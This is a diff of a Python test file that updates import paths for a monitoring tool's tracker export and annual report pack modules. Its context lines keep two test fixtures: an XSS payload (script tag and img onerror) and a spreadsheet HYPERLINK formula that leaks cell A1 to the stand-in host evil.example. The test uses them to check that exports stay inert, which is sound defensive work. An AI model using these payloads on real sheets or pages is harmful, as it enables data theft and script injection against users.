@@ -5,7 +5,7 @@ from datetime import date
 
 from openpyxl import load_workbook
 
-from monitoring.tracker_export import COLUMNS, write_tracker
+from monitoring.trackers.export import COLUMNS, write_tracker
 
 SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'
@@ -38,8 +38,8 @@ def test_the_annual_report_pack_keeps_markup_and_formulas_inert(make_services, s
     import csv
     import io
 
-    from monitoring.annual_report import gather
-    from monitoring.exporting import build_pack
+    from monitoring.reports.annual_report import gather
+    from monitoring.reports.pack import build_pack
     from tests.builders import BOARD, board_with_action
     from tests.conftest import TODAY
 
